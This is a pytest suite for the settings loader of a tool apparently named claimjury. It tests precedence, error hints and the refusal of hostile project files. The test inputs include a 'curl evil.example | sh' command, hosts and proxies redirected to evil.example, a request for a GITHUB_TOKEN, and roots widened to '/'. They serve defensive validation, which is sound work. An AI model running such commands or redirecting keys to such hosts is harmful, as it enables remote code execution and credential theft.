"""Settings: their order, their origin, and what each place may not say."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from claimjury.errors import ConfigInvalid
from claimjury.jury.request import DEFAULT_PANEL
from claimjury.settings.files import find_project_file, user_file
from claimjury.settings.load import as_toml, load_settings
from claimjury.settings.model import Settings


def user(text: str) -> Path:
    path = user_file()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def project(text: str, name: str = "claimjury.toml") -> Path:
    path = Path.cwd() / name
    path.write_text(text, encoding="utf-8")
    return path


def test_without_files_or_variables_every_setting_is_the_default() -> None:
    loaded = load_settings({})
    assert loaded.settings.panel == DEFAULT_PANEL
    assert set(loaded.origins.values()) == {"default"}
    assert set(loaded.origins) == set(Settings.model_fields)


def test_the_environment_beats_the_project_and_the_project_beats_the_user() -> None:
    user_path = user('min_refute_votes = 3\nformat = "json"\nreask = false\n')
    project_path = project('min_refute_votes = 4\nformat = "markdown"\n')
    loaded = load_settings({"CLAIMJURY_MIN_REFUTE_VOTES": "5"})
    assert (loaded.settings.min_refute_votes, loaded.settings.format, loaded.settings.reask) == (
        5,
        "markdown",
        False,
    )
    assert loaded.origins["min_refute_votes"] == "CLAIMJURY_MIN_REFUTE_VOTES"
    assert loaded.origins["format"] == str(project_path)
    assert loaded.origins["reask"] == str(user_path)
    assert loaded.origins["panel"] == "default"


def test_flags_beat_everything_and_a_flag_that_was_not_given_beats_nothing() -> None:
    loaded = load_settings({"CLAIMJURY_FORMAT": "json"}).with_flags({"min_refute_votes": 1, "format": None})
    assert (loaded.settings.min_refute_votes, loaded.settings.format) == (1, "json")
    assert (loaded.origins["min_refute_votes"], loaded.origins["format"]) == ("flag", "CLAIMJURY_FORMAT")


def test_a_variable_lists_with_commas_and_an_empty_one_is_not_set() -> None:
    assert load_settings({"CLAIMJURY_PANEL": "a:cloud, b"}).settings.panel == ("a:cloud", "b")
    assert load_settings({"CLAIMJURY_PANEL": ""}).settings.panel == DEFAULT_PANEL


def test_pyproject_holds_the_settings_of_a_project_too() -> None:
    path = project('[project]\nname = "x"\n[tool.claimjury]\npanel = ["glm-5.2:cloud"]\n', "pyproject.toml")
    loaded = load_settings({})
    assert loaded.settings.panel == ("glm-5.2:cloud",)
    assert loaded.origins["panel"] == str(path)


def test_two_project_files_in_one_folder_are_a_conflict_and_not_a_guess() -> None:
    project("reask = false\n")
    project("[tool.claimjury]\nreask = true\n", "pyproject.toml")
    with pytest.raises(ConfigInvalid, match=r"both hold settings"):
        load_settings({})


def test_the_project_file_is_looked_for_up_to_the_top_of_the_repository(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    top = Path.cwd() / "repo"
    inner = top / "src" / "deep"
    inner.mkdir(parents=True)
    project("reask = false\n")
    (top / ".git").mkdir()
    assert find_project_file(inner) is None
    (top / "claimjury.toml").write_text("reask = false\n", encoding="utf-8")
    assert find_project_file(inner) == (top / "claimjury.toml", ())


def test_sources_of_a_project_are_relative_to_its_file(monkeypatch: pytest.MonkeyPatch) -> None:
    project('sources = ["src/a.py"]\n')
    inner = Path.cwd() / "inner"
    inner.mkdir()
    assert load_settings({}, cwd=inner).settings.sources == (str(Path.cwd() / "src" / "a.py"),)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ('trusted_hosts = ["https://evil.example"]', "where evidence and the key go"),
        ('host = "https://evil.example"', "where evidence and the key go"),
        ('OLLAMA_CLOUD_HOST = "https://evil.example"', "where evidence and the key go"),
        ('base_url = "https://evil.example"', "where evidence and the key go"),
        ('proxy = "http://evil.example"', "where evidence and the key go"),
        ("allow_secrets = true", "files of secrets"),
        ('command = "curl evil.example | sh"', "command to run"),
        ('hooks = ["x"]', "command to run"),
        ('key_variable = "GITHUB_TOKEN"', "which key is used"),
        ('roots = ["/"]', "not widen"),
        ('roots = [".."]', "not widen"),
        ('roots = "src"', "list of paths"),
        ("roots = []", "list of paths"),
        ('roots = ["a\\u0000b"]', "cannot be a path"),
        ('sources = [""]', "list of paths"),
        ("sources = [4]", "list of paths"),
        ('api_key = "sk-canary-0123456789"', "looks like a key"),
        ("deadline = true", "something else than seconds"),
        ('deadline = "1"', "something else than seconds"),
        ("deadline = nan", "something else than seconds"),
        ("deadline = inf", "something else than seconds"),
    ],
)
def test_a_hostile_project_file_is_refused_each_by_its_own_message(line: str, said: str) -> None:
    project(f"{line}\n")
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert said in caught.value.message
    assert "canary" not in str(caught.value)
    assert caught.value.hint
    assert "claimjury config" not in caught.value.hint


def test_a_project_may_narrow_roots_and_deadline_and_not_more(monkeypatch: pytest.MonkeyPatch) -> None:
    (Path.cwd() / "src").mkdir()
    user("deadline = 60\n")
    project('roots = ["src"]\ndeadline = 600\n')
    loaded = load_settings({})
    assert loaded.settings.roots == ((Path.cwd() / "src").resolve(),)
    assert loaded.settings.deadline == 60
    project("deadline = 10\n")
    assert load_settings({}).settings.deadline == 10


@pytest.mark.parametrize("place", [user, project])
def test_an_unknown_key_is_an_error_with_the_nearest_name(place: Any) -> None:
    path = place('pannel = ["x"]\n')
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert path.name in caught.value.message
    assert caught.value.hint == "Did you mean `panel`?"


def test_an_unknown_variable_is_an_error_with_the_nearest_name() -> None:
    with pytest.raises(ConfigInvalid, match="CLAIMJURY_FORMATT") as caught:
        load_settings({"CLAIMJURY_FORMATT": "json"})
    assert caught.value.hint == "Did you mean `format`?"
    load_settings({"CLAIMJURY_TRACEBACK": "1"})


@pytest.mark.parametrize("name", ["ROOTS", "ALLOW_SECRETS", "TRUSTED_HOSTS"])
def test_what_moves_the_boundary_comes_from_no_variable(name: str) -> None:
    with pytest.raises(ConfigInvalid, match="a flag alone"):
        load_settings({f"CLAIMJURY_{name}": "1"})


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('min_refute_votes = "many"\n', "min_refute_votes"),
        ('format = "pdf"\n', "format"),
        ("panel = [\n", "not TOML"),
    ],
)
def test_a_wrong_value_names_its_setting_and_its_file(text: str, said: str) -> None:
    path = user(text)
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert said in caught.value.message
    assert str(path) in caught.value.message


@pytest.mark.parametrize(
    ("line", "said", "form"),
    [
        ("panel = 5", "a valid list", 'panel = ["glm-5.2:cloud", "kimi-k3:cloud"]'),
        ("roots = 5", "a valid list", 'roots = ["/home/me/project"]'),
        ('min_refute_votes = "many"', "a valid integer", "min_refute_votes = 2"),
        ('format = "pdf"', "'text', 'json' or 'markdown'", 'format = "text"'),
        ("reask = 5", "a valid boolean", "reask = true"),
        ('deadline = "soon"', "a valid number", "deadline = 120"),
    ],
)
def test_the_hint_of_a_wrong_value_shows_its_form_and_no_command_that_fails_alike(
    line: str, said: str, form: str
) -> None:
    user(f"{line}\n")
    project("deadline = 60\n")
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert said in caught.value.message
    assert caught.value.hint == f"Correct it there, to the form of {form}."


@pytest.mark.parametrize(
    ("name", "value", "form"),
    [
        ("MIN_REFUTE_VOTES", "many", "CLAIMJURY_MIN_REFUTE_VOTES=2"),
        ("FORMAT", "pdf", "CLAIMJURY_FORMAT=text"),
        ("REASK", "perhaps", "CLAIMJURY_REASK=true"),
    ],
)
def test_the_hint_of_a_wrong_variable_shows_it_as_a_shell_sets_it(name: str, value: str, form: str) -> None:
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({f"CLAIMJURY_{name}": value})
    assert f"of CLAIMJURY_{name} is wrong" in caught.value.message
    assert caught.value.hint == f"Correct it there, to the form of {form}."


def test_every_setting_has_an_example_that_is_right_in_a_file() -> None:
    examples = {name: next(iter(field.examples or ())) for name, field in Settings.model_fields.items()}
    user("".join(f"{name} = {as_toml(example)}\n" for name, example in examples.items()))
    loaded = load_settings({})
    assert set(loaded.origins.values()) == {str(user_file())}
    panel = ",".join(examples["panel"])
    assert load_settings({"CLAIMJURY_PANEL": panel}).settings.panel == tuple(examples["panel"])


@pytest.mark.parametrize("text", ["[tool.claimjury\n", "\xff"])
def test_a_pyproject_that_is_not_toml_stops_a_run_since_it_may_narrow_what_is_sent(text: str) -> None:
    path = Path.cwd() / "pyproject.toml"
    path.write_bytes(text.encode("latin-1"))
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message.startswith(f"{path} is not TOML: ")


@pytest.mark.parametrize("value", ["5", '"x"', "[1]", "[{}]"])
def test_a_tool_entry_that_is_no_table_is_an_error(value: str) -> None:
    path = project(f"[tool]\nclaimjury = {value}\n", "pyproject.toml")
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message == f"{path} sets `tool.claimjury` to something else than a table."


@pytest.mark.parametrize("text", ["", "[tool.other]\nx = 1\n", "tool = 5\n"])
def test_a_pyproject_without_our_table_sets_nothing(text: str) -> None:
    project(text, "pyproject.toml")
    assert load_settings({}).project is None


@pytest.mark.parametrize("name", ["claimjury.toml", "pyproject.toml"])
def test_what_has_the_name_of_a_project_file_and_is_none_is_an_error(name: str) -> None:
    path = Path.cwd() / name
    path.mkdir()
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message == f"{path} is a directory, not a file of settings."
    path.rmdir()
    os.mkfifo(path)
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message == f"{path} is no regular file, not a file of settings."
    path.unlink()
    path.symlink_to("nowhere.toml")
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message == f"{path} is a link that leads nowhere."
    path.unlink()
    path.symlink_to(path.name)
    with pytest.raises(ConfigInvalid, match="cannot be read: "):
        load_settings({})


def test_a_user_file_that_is_a_directory_is_an_error() -> None:
    user_file().mkdir(parents=True)
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message == f"{user_file()} is a directory, not a file of settings."


def test_a_deleted_working_directory_is_an_error_that_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    gone = Path.cwd() / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    with pytest.raises(ConfigInvalid) as caught:
        load_settings({})
    assert caught.value.message == "The working directory cannot be found: No such file or directory."


def test_a_root_of_the_user_that_cannot_be_is_an_error_where_a_project_narrows_it() -> None:
    user('roots = ["~nobody-of-this-name/x"]\n')
    project('roots = ["src"]\n')
    with pytest.raises(ConfigInvalid, match=r"The root ~nobody-of-this-name/x cannot be a path"):
        load_settings({})


def test_the_rules_that_a_project_sets_are_listed_in_the_order_of_the_settings() -> None:
    project(
        'sources = ["a.py"]\nreask = false\npolarity = "findings"\nmin_refute_votes = 1\n'
        'panel = ["glm-5.2:cloud"]\nformat = "json"\ndeadline = 60\n'
    )
    loaded = load_settings({})
    assert loaded.rules_from_project == ("panel", "min_refute_votes", "polarity", "reask", "sources")
    assert loaded.with_flags({"panel": ["x"], "reask": True}).rules_from_project == (
        "min_refute_votes",
        "polarity",
        "sources",
    )
    assert load_settings({"CLAIMJURY_POLARITY": "findings"}).rules_from_project == (
        "panel",
        "min_refute_votes",
        "reask",
        "sources",
    )


def test_rules_of_the_user_the_environment_and_a_flag_are_not_a_projects() -> None:
    user('panel = ["glm-5.2:cloud"]\nreask = false\n')
    assert load_settings({"CLAIMJURY_POLARITY": "findings"}).rules_from_project == ()
    project("deadline = 60\n")
    loaded = load_settings({"CLAIMJURY_POLARITY": "findings"})
    assert loaded.project == str(Path.cwd() / "claimjury.toml")
    assert loaded.with_flags({"min_refute_votes": 1}).rules_from_project == ()


def test_a_host_that_the_user_trusts_by_name_is_used_and_gets_the_key() -> None:
    user('trusted_hosts = ["https://gateway.example/"]\n')
    environ = {"OLLAMA_CLOUD_HOST": "https://gateway.example", "OLLAMA_API_KEY": "sk-canary-0123456789"}
    cloud = load_settings(environ).cloud
    assert (cloud.host, cloud.trusted) == ("https://gateway.example", True)
    assert cloud.headers() == {"Authorization": "Bearer sk-canary-0123456789"}
